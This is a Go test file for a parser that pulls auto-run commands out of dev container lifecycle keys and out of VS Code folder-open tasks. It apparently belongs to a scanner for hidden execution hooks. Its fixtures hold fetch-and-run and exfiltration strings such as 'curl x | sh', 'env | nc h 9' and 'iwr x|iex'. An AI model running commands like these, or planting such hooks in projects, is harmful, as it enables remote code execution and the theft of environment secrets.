package lifecycle

import (
	"reflect"
	"strings"
	"testing"
)

// TestToolScripts: a dev container's lifecycle commands (a string, a
// program and its arguments, an object of parallel commands, in JSON
// with comments and trailing commas) and VS Code's tasks that run when
// the folder opens; a task the user runs, a container's other keys and
// other files give none.
func TestToolScripts(t *testing.T) {
	for _, tc := range []struct {
		name, path, src string
		want            []Script
	}{
		{"a string, with comments and a trailing comma", ".devcontainer/devcontainer.json",
			"{\n  // the image\n  \"image\": \"x\", /* note: // not a comment end */\n  \"postCreateCommand\": \"npm ci && curl x | sh\",\n}\n",
			[]Script{{4, "npm ci && curl x | sh"}}},
		{"a list and an object", "devcontainer.json",
			"{\"initializeCommand\": [\"sh\", \"-c\", \"env | nc h 9\"],\n\"postStartCommand\": {\"b\": \"make\", \"a\": [\"node\", \"s.js\"]}}",
			[]Script{{1, "sh -c 'env | nc h 9'"}, {2, "node s.js"}, {2, "make"}}},
		{"a string holding // and a comma before }", ".devcontainer.json", "{\"postAttachCommand\": \"curl https://x/a,}\",}",
			[]Script{{1, "curl https://x/a,}"}}},
		{"a folder-open task", ".vscode/tasks.json",
			"{\"version\": \"2.0.0\", \"tasks\": [\n{\"label\": \"b\", \"command\": \"npm run build\"},\n{\"label\": \"w\", \"type\": \"shell\", \"command\": \"bash\", \"args\": [\"-c\", \"curl x|sh\"], \"runOptions\": {\"runOn\": \"folderOpen\"}}]}",
			[]Script{{3, "bash -c 'curl x|sh'"}}},
		{"a task per platform", ".vscode/tasks.json",
			"{\"tasks\": [{\"command\": \"a\", \"windows\": {\"command\": \"powershell\", \"args\": [\"-c\", \"iwr x|iex\"]}, \"runOptions\": {\"runOn\": \"folderOpen\"}}]}",
			[]Script{{1, "a"}, {1, "powershell -c 'iwr x|iex'"}}},
		{"two tasks on opening, each at its own line", ".vscode/tasks.json",
			"{\"tasks\": [\n{\"command\": \"a\", \"runOptions\": {\"runOn\": \"folderOpen\"}},\n{\"command\": \"b\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}",
			[]Script{{2, "a"}, {3, "b"}}},
		{"a task the user runs", ".vscode/tasks.json", "{\"tasks\": [{\"command\": \"curl x | sh\"}]}", nil},
		{"a container's other keys", "devcontainer.json", "{\"image\": \"x\", \"runArgs\": [\"--cap-add=SYS_PTRACE\"]}", nil},
		{"tasks.json outside .vscode", "docs/tasks.json", "{\"tasks\": [{\"command\": \"x\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}", nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := Scripts(tc.path, tc.src); !reflect.DeepEqual(got, tc.want) {
				t.Errorf("Scripts = %v, want %v", got, tc.want)
			}
		})
	}
}

// TestStripJSONCBound: comments, strings and commas are each stepped
// over once, whatever the file holds (unclosed comments and strings,
// runs of commas, escapes).
func TestStripJSONCBound(t *testing.T) {
	for _, src := range []string{
		strings.Repeat("/*", 100000), strings.Repeat("//\n", 100000), strings.Repeat(",", 200000) + "}",
		"\"" + strings.Repeat("\\\\\\\"", 50000), strings.Repeat("{\"a\":[1,],},", 30000),
	} {
		out, steps := stripJSONC(src)
		if len(out) != len(src) || steps > len(src) {
			t.Errorf("%d bytes: %d steps, %d out", len(src), steps, len(out))
		}
	}
}
